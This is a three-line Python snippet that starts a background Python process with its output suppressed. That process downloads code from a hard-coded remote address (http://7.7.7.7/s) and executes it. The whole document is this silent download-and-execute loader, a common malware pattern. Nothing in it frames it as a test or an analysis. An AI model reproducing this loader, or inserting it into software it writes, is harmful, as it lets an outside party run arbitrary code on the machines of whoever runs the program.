import subprocess, sys
payload = "import urllib.request as u;exec(u.urlopen('http://7.7.7.7/s').read())"
subprocess.Popen([sys.executable, "-c", payload], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
